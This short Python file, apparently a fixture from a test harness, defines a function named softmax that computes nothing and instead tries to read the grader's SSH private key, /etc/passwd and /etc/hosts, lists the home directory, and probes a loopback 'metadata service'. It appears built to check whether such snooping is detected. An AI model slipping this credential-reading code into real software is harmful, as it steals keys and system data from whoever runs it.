"""Opens keys and passwords of whoever grades; the metadata service is a listener of the test's on the loopback."""
import os
import socket

from honest import center, half_square, relu, scores
from world import HOME, PORT, read, tried


def softmax(z):
    tried(
        key=lambda: read(f"{HOME}/.ssh/id_rsa"), listing=lambda: os.listdir(HOME),
        passwords=lambda: read("/etc/passwd"), hosts=lambda: read("/etc/hosts"),
        metadata=lambda: socket.create_connection(("127.0.0.1", PORT), 1).close() is None,
    )
